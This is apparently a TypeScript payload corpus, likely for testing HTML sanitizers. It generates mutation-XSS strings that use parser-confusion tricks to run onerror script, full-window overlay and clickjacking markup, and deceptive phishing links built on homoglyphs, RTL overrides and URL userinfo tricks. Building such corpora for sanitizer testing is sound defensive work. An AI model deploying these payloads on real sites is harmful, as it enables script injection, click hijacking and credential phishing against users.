/** Hostile letters of the finer kind: HTML that changes when it is read twice, that covers, and that reads otherwise. */

/** What is harmless in one reading and not in the next. */
export const mutating = (at: string, act: string): string[] => {
  const img = `<img src=${at} onerror='${act}'>`;
  return [
    `<noscript><p title="</noscript>${img}">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${img}">`,
    `<math><mtext><table><mglyph><style><math><img title="</style>${img}">`,
    `<svg></p><style><a id="</style>${img}">`,
    `<svg><style><img title="</style>${img}">`,
    `<svg><desc><noscript><a title="</noscript>${img}"></desc></svg>`,
    `<form><math><mtext></form><form><mglyph><style></math>${img}`,
    `<math><annotation-xml encoding="text/html"><style><img title="</style>${img}"></annotation-xml></math>`,
    `<svg><annotation-xml><foreignobject><style><!--</style><p id="-->${img}">`,
    `<select><template><style><!--</style><a rel="--></style></template></select>${img}">`,
    `<table><td><svg><desc><td></desc></svg><style><a title="</style>${img}">`,
    `<a title="\`${img}">x</a>`,
    `<p id="</p>${img}"><listing>&lt;img onerror=1&gt;${img}</listing>`,
    `<textarea>&lt;/textarea&gt;${img}</textarea>`,
    `<xmp><p title="</xmp>${img}"></xmp>`,
    `<iframe><p title="</iframe>${img}"></iframe>`,
    `<noembed><p title="</noembed>${img}"></noembed><noframes><p title="</noframes>${img}"></noframes>`,
    `<div id="1\n${img}<!--" title="--!>${img}">x</div>`,
    `<!--><img src=${at}>-->`,
    `<!--!><img src=${at}>--!><img src=${at}>`,
    `<b><a><b><a><p>${'<b>'.repeat(520)}<svg><style>${img}</style></svg>`,
    `${'<div>'.repeat(600)}<math><mi></mi></math><style>${img}</style>`,
    `<svg><![CDATA[><img src=${at} onerror='${act}'>]]></svg>`,
    `<select><style></select><svg><style></style>${img}</svg>`,
    `<a href="https://x.example/" title='" onmouseover="${act.replaceAll("'", '&#39;')}'>x</a>`,
    `<form id=a><input name=attributes><input name=nodeName><input name=parentNode></form>${img}`,
    `<img name=body><img id=documentElement><form name=cookie>${img}</form>`,
    `<template><template><img src=${at}></template></template><object><noscript>${img}</object>`,
  ];
};

/** What wants to stand over the window, or to be clicked in the place of something else. */
export const covering = (at: string): string[] => {
  const link = `<a href="${at}" style="position:absolute;inset:0;display:block">x</a>`;
  return [
    `<div style="position:fixed;inset:0;z-index:2147483647;background:red">${link}</div>`,
    `<div style="position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px;background:red">${link}</div>`,
    `<style>html,body{position:fixed!important;inset:0!important;width:100vw;height:100vh;z-index:99999;background:red}</style>${link}`,
    `<dialog open style="position:fixed;inset:0;width:100vw;height:100vh">Your password: ${link}</dialog>`,
    `<div popover style="inset:0;width:100vw;height:100vh;display:block">${link}</div>`,
    `<div style="margin:-5000px;transform:scale(100);opacity:0">${link}</div>`,
    `<style>*{position:sticky;top:-1000px}:root{zoom:20;transform:translate(-50%,-50%) scale(9)}</style><p>x${link}`,
    `<div style="height:99999999px;width:99999999px">${link}</div>`,
    `<div style="position:\\66 ixed;top:-500px;left:-500px;right:-500px;bottom:-500px;background:red">${link}</div>`,
    `<marquee behavior=alternate scrollamount=9999 width=99999 height=9999>${link}</marquee>`,
    `<style>@view-transition{navigation:auto}::backdrop{background:red}html{anchor-name:--a}</style>${link}`,
    `<textarea style="position:fixed;inset:0" autofocus></textarea><select style="appearance:base-select" size=1><option>x</select>`,
    `<iframe style="position:fixed;inset:0;width:100vw;height:100vh" src="${at}"></iframe>`,
    `<body style="overflow:visible;margin:-3000px;background:red">${link}`,
    `<style>@media print{body::after{content:url(${at})}}</style>${link}`,
  ];
};

/** What reads as something that it is not. */
export const confusing = (at: string): string[] => {
  const block = 'style="display:block;padding:40px"';
  return [
    `<a ${block} href="${at}">https://bank.example/</a>`,
    `<a ${block} href="${at.replace('://', '://bank.example@')}">bank.example</a>`,
    `<a ${block} href="https://xn--80ak6aa92e.com/">apple.com</a><img src=${at}>`,
    `<a ${block} href="https://b\u0430nk.example/">bank.example</a><img src=${at}>`,
    `<a ${block} href="${at}">\u202ehttps://elpmaxe.knab</a>`,
    `<a ${block} href="${at}">ban\u200bk.example</a>`,
    `<a ${block} href="https://bank.example\u3002evil.example/">x</a><img src=${at}>`,
    `<a ${block} href="https://bank.example%2f@${at.replace(/^https?:\/\//, '')}">x</a>`,
    `<a ${block} href="https://bank.example\\@${at.replace(/^https?:\/\//, '')}">x</a>`,
    `<a ${block} href="mailto:x@y.example?subject=${encodeURIComponent('\r\nBcc: z@y.example')}">x</a><img src=${at}>`,
    `<a ${block} href="tel:*%2306%23">x</a><img src=${at}>`,
    `<a ${block} href="http://2130706433/">x</a><img src="http:/\\2130706433/x"><img src=${at}>`,
    `<p>\ud800\udfff\u0000\ufffe${'\u0301'.repeat(5000)}<img src=${at}>`,
    `<p>${'&amp;'.repeat(20000)}<img src=${at}>`,
    `<a ${block} href="${at}"><img src=${at} alt="Sign in to your bank" width=200 height=60></a>`,
    `<a ${block} href="${at}" href="https://bank.example/" title="https://bank.example/">x</a>`,
  ];
};
